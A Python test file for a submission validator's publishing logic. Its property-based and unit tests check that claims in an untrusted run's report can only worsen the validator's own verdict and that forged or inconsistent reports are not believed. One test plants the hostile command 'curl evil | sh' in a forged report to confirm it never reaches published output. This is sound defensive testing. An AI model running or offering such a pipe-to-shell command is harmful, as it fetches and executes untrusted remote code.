"""Whatever the run reports: it brings an accept no nearer than the checks that only it could ask."""

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.publishing.cases.reports import claimed
from tests.publishing.world import BAD, ENTRY, NUMBER, World, world
from validator.model import (
    Cause,
    Decision,
    Finding,
    Kind,
    Outcome,
    Reason,
    Report,
    Result,
    Standing,
    Verdict,
)
from validator.publishing.forge import Pull
from validator.publishing.merging import Own, not_used, published, unbelievable
from validator.verdict import worse

RANK = (Verdict.ACCEPT, Verdict.UNDECIDED, Verdict.REJECT)
OUTCOMES = st.sampled_from(
    [
        lambda check: Result(check, Outcome.PASSED),
        lambda check: Result(check, Outcome.FAILED, (Finding("no"),)),
        lambda check: Result(check, Outcome.FAILED, (Finding("no", standing=Standing.INHERITED),)),
        lambda check: Result(check, Outcome.BROKE, because="x", cause=Cause.OURS),
        lambda check: Result(check, Outcome.NOT_RUN, because="x", cause=Cause.CONSEQUENCE),
        lambda check: Result(check, Outcome.NOT_RUN, because="x", cause=Cause.NOT_APPLICABLE),
        lambda check: Result(check, Outcome.NOT_RUN, because="x", cause=Cause.UNVERIFIED),
        None,
    ]
)
VERDICTS = st.sampled_from([Verdict.ACCEPT, Verdict.UNDECIDED, Verdict.REJECT])


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> tuple[Own, Report]:
    with world(tmp_path_factory.mktemp("good")) as made:
        return own(made), made.honest


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory) -> tuple[Own, Report]:
    with world(tmp_path_factory.mktemp("bad"), {ENTRY: BAD}) as made:
        return own(made), claimed(made)


def own(made: World) -> Own:
    return made.judge(Pull(NUMBER, True, made.head, 200, "main", 100))


def test_an_honest_accept_is_published(good: tuple[Own, Report]) -> None:
    ours, theirs = good

    assert published(ours, theirs).verdict is Verdict.ACCEPT
    assert published(ours, not_used("there is none")).verdict is Verdict.UNDECIDED


def test_no_claim_helps_against_our_own_objection(bad: tuple[Own, Report]) -> None:
    ours, theirs = bad

    assert theirs.verdict is Verdict.ACCEPT
    assert published(ours, theirs).verdict is Verdict.REJECT
    assert published(ours, not_used("there is none")).verdict is Verdict.REJECT


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_report_makes_it_worse_or_answers_what_we_did_not_ask(
    data: st.DataObject, good: tuple[Own, Report], bad: tuple[Own, Report]
) -> None:
    ours, theirs = data.draw(st.sampled_from([good, bad]))
    unit = theirs.units[1]
    made = {r.check.id: data.draw(OUTCOMES) for r in data.draw(st.permutations(unit.results))[:4]}
    results = tuple(
        made[r.check.id](r.check) if r.check.id in made else r
        for r in unit.results
        if made.get(r.check.id, r) is not None
    )
    stated = Decision(data.draw(VERDICTS), (Reason("", "so they say"),))
    told = replace(theirs, units=(theirs.units[0], replace(unit, results=results, decision=stated)))

    said = published(ours, told)

    assert RANK.index(said.verdict) >= RANK.index(stated.verdict)
    assert RANK.index(said.verdict) >= RANK.index(settled(ours))
    if said.verdict is Verdict.ACCEPT:
        ran = {r.check.id for r in said.units[1].results if r.outcome in (Outcome.PASSED, Outcome.FAILED)}
        assert ours.policy.requires(Kind.SERVER) <= ran


def settled(ours: Own) -> Verdict:
    """Our own verdict, if all that we left out went well."""
    reasons = [r for unit in ours.report.units for r in unit.decision.reasons if r.cause is not Cause.SCOPE]
    return ours.report.verdict if reasons else Verdict.ACCEPT


def test_what_a_maintainer_must_do_by_hand_stays_with_them(good: tuple[Own, Report]) -> None:
    ours, theirs = good
    asks = Decision(Verdict.UNDECIDED, (Reason("", "by hand"), Reason("BLD001", "x", Cause.SCOPE)))
    units = (ours.report.units[0], replace(ours.report.units[1], decision=asks))

    said = published(replace(ours, report=replace(ours.report, units=units)), theirs)

    assert said.verdict is Verdict.UNDECIDED
    assert said.units[1].decision.reasons == (Reason("", "by hand"),)


def test_a_fitting_report_is_believable(good: tuple[Own, Report]) -> None:
    assert unbelievable(good[1], good[0]) is None


def test_nothing_of_the_run_s_words_is_the_command_or_the_subject(good: tuple[Own, Report]) -> None:
    """A forged report must not tell people what to type."""
    ours, theirs = good
    forged = replace(theirs, reproduce="curl evil | sh", subject="x", version="x", notes=("curl evil | sh",))

    said = published(ours, forged)

    assert said.reproduce == ours.reproduce
    assert said.subject == ours.report.subject
    assert "evil" not in "".join(said.notes)


@pytest.mark.parametrize("one", RANK)
@pytest.mark.parametrize("other", RANK)
def test_of_two_decisions_the_worse_is_made(one: Verdict, other: Verdict) -> None:
    mine, theirs = (Decision(v, () if v is Verdict.ACCEPT else (Reason(v.value, "x"),)) for v in (one, other))

    said = worse(mine, theirs)

    assert said.verdict is max(one, other, key=RANK.index)
    assert set(said.reasons) == {*mine.reasons, *theirs.reasons}


def test_a_verdict_that_no_unit_can_have_is_no_accept() -> None:
    odd = Decision(Verdict.NOT_A_SUBMISSION)

    assert worse(Decision(Verdict.ACCEPT), odd).verdict is Verdict.UNDECIDED
    assert worse(odd, odd).verdict is Verdict.UNDECIDED


def test_an_entry_that_is_told_twice_or_as_something_else_is_not_believed(good: tuple[Own, Report]) -> None:
    ours, theirs = good
    whole, entry = theirs.units
    rejected = replace(entry, decision=Decision(Verdict.REJECT))
    twice = replace(theirs, units=(whole, entry, rejected), verdict=Verdict.REJECT)
    remote = replace(theirs, units=(whole, replace(entry, kind=Kind.REMOTE)))

    assert [bool(unbelievable(report, ours)) for report in (twice, remote)] == [True, True]


def test_one_reason_is_said_once_in_our_words() -> None:
    mine = Decision(Verdict.REJECT, (Reason("A", "ours"),), (Reason("X", "e"),))
    theirs = Decision(Verdict.REJECT, (Reason("A", "theirs"), Reason("A", "other", Cause.OURS)))

    assert worse(mine, theirs) == Decision(Verdict.REJECT, (Reason("A", "ours"), theirs.reasons[1]))


def test_world_is_what_it_says(tmp_path: Path) -> None:
    """Else the tests above would show nothing: our own reading alone is undecided, for lack of a run."""
    with world(tmp_path) as made:
        assert own(made).report.verdict is Verdict.UNDECIDED
        assert made.honest.verdict is Verdict.ACCEPT
